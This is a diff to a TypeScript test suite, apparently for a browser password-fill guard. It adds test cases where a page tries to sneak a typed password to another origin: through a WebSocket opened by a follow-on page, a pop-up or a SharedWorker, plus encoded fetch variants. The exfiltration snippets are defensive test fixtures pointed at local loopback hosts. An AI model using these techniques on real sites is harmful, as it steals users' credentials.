@@ -36,6 +36,17 @@ const SENDERS: Record<string, string> = {
   lateSharedWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared.js', 'late'); w.port.postMessage(pw) }`,
   sharedWorker: `const w = new SharedWorker('/shared.js'); const SEND = (pw) => w.port.postMessage(pw)`,
   websocket: `const SEND = (pw) => { const ws = new WebSocket('ws://127.0.0.1:' + OTHER + '/ws'); ws.onopen = () => ws.send(pw) }`,
+  // After typing, the tab goes on to a second page of the same site (or opens it in a popup), which
+  // opens a WebSocket to the other origin and sends the password there: a document the guard did not
+  // hold when it armed.
+  websocketNextPage: `const SEND = (pw) => { localStorage.setItem('pw', pw); location.href = '/ws-next' }`,
+  // The pop-up opens on the input event of the password's last character, while the fill step runs.
+  websocketPopup: `let opened = false
+    const SEND = () => {}
+    document.getElementById('password').addEventListener('input', (e) => {
+      if (!opened && e.target.value.length >= 14) { opened = true; localStorage.setItem('pw', e.target.value); window.open('/ws-next', '_blank') } })`,
+  // A SharedWorker the page starts after typing opens the WebSocket itself.
+  websocketWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared-ws.js', 'ws'); w.port.postMessage(pw) }`,
   encoded: `const SEND = (pw) => {
     fetch(A + '/u', { method: 'POST', mode: 'no-cors', body: '{"p":"' + [...pw].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '"}' })
     fetch(A + '/b64', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) })
@@ -101,7 +112,19 @@ beforeAll(async () => {
       )
       return
     }
+    if (req.url === "/shared-ws.js") {
+      res.writeHead(200, { "content-type": "text/javascript" })
+      res.end(
+        `onconnect = (e) => { e.ports[0].onmessage = (m) => { const ws = new WebSocket('ws://127.0.0.1:${otherPort}/ws'); ws.onopen = () => ws.send(m.data) } }`,
+      )
+      return
+    }
     res.writeHead(200, { "content-type": "text/html" })
+    if (req.url === "/ws-next") {
+      res.end(`<!doctype html><html><head><meta charset="utf-8"><title>Welcome</title></head><body><h1>Welcome</h1>
+<script>const ws = new WebSocket('ws://127.0.0.1:${otherPort}/ws'); ws.onopen = () => ws.send(localStorage.getItem('pw'))</script></body></html>`)
+      return
+    }
     res.end(page(new URL(req.url ?? "/", "http://x").searchParams.get("k") ?? ""))
   })
   siteUrl = `http://127.0.0.1:${await listen(site)}`
@@ -157,6 +180,24 @@ it("a SharedWorker started after the password is typed does not send it", {
 it("a WebSocket to another origin does not carry the password", async () => {
   await signIn("websocket")
   expect(wsFrames).toEqual([])
+}, 60_000)
+
+it("a WebSocket opened by the next page of the same site does not carry the password", async () => {
+  const since = wsFrames.length
+  await signIn("websocketNextPage")
+  expect(wsFrames.slice(since)).toEqual([])
+}, 60_000)
+
+it("a WebSocket opened by a pop-up of the same site does not carry the password", async () => {
+  const since = wsFrames.length
+  await signIn("websocketPopup")
+  expect(wsFrames.slice(since)).toEqual([])
+}, 60_000)
+
+it("a WebSocket opened by a SharedWorker started after typing does not carry the password", async () => {
+  const since = wsFrames.length
+  await signIn("websocketWorker")
+  expect(wsFrames.slice(since)).toEqual([])
 }, 60_000)
 
 it("encoded and split spellings of the password do not leave", async () => {
